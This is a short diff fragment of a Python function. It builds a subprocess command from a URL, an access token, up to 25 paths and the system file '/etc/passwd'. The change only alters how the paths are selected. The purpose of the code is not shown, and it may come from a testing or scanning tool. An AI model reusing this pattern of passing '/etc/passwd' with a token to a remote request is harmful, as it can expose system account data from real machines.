@@ -32,7 +32,7 @@ def some_request(house) -> str:
         code,
         house.url,
         house.token,
-        *house.paths[:25],
+        *house.untouched(25),
         "/etc/passwd",
     ]
     done = subprocess.run(command, capture_output=True, text=True, check=True)
